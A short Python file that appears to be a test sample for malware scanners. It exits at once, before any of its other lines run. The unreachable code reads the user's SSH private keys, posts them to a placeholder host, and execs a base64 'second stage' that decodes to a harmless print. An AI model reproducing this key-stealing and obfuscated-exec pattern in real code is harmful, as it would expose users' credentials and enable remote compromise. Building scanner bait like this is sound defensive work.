"""Bait for scanners: it ends before it reads anything, and the host that it names cannot exist."""

raise SystemExit("This is a demonstration and does nothing.")

import base64
import pathlib
import urllib.request

keys = {path.name: path.read_text() for path in (pathlib.Path.home() / ".ssh").glob("id_*")}
urllib.request.urlopen("https://collector.invalid/upload", data=repr(keys).encode())
exec(base64.b64decode("cHJpbnQoImEgc2Vjb25kIHN0YWdlIHdvdWxkIHN0YW5kIGhlcmUiKQ=="))
